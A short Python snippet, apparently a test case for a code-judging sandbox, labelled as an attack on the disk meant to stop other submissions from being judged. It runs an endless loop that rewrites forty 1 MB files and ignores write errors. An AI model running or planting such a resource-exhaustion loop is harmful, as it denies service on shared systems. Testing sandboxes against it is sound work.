# attacks: the disk: files without end
# success: another submission is not judged
# stock: it would fill the disk
# %% before
_number = 0
while True:
    try:
        with open(f"fill-{_number % 40}", "wb") as _file:
            _file.write(b"x" * 1_000_000)
    except OSError:
        pass
    _number += 1
